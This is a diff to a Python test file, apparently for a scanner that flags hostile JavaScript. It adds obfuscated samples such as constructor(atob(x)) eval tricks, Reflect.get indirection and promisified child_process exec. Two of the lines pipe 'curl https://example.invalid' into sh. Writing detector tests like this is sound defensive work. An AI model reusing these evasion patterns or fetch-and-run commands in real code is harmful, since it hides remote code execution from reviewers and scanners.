@@ -139,6 +139,13 @@ def test_what_harms_is_found_however_it_is_written(rule: str, severity: str, sou
         "const p = require('./package.json'); function f() { return g(process.env.X) } eval(f()); log(p.version)",
         "fetch(x).then(r => r.text()).then(t => { require('fs').writeFileSync('a.js', t); require('b.js') })",
         f"{WORKER}('eval(atob(x))', {{eval: false}}); s.onmessage = e => f(e); s.x = () => 1",
+        f"const run = require('util').promisify({CP}.exec); run('git status'); require('pify')({CP}.exec)('git')",
+        "o.keys.constructor(atob(x)); x.constructor(atob(x)); a.map(k).constructor(atob(x))",
+        "Reflect.get(o, 'run')('x'); Reflect.get(o); Object.getOwnPropertyDescriptor(o, k).value(atob(x))",
+        "const h = require('http'); const serve = a => new Server(a); serve(h).get('/x'); f(h).request(atob(x))",
+        "const h = require('http'), two = a => { if (b) return c; return a }; two(h).get(y); (a => [a])(h).get()",
+        "load().then(m => m.exec).then(exec => exec('curl https://example.invalid | sh')); p.then(); p.then(x)",
+        "const cp = require('child_process'); p.then(() => q).then(cp => cp.exec('curl https://example.invalid | sh'))",
         r"const gr\u00fcn = '\u0065val'; grün(/^[\u0041-\u005a]/)",
     ],
 )
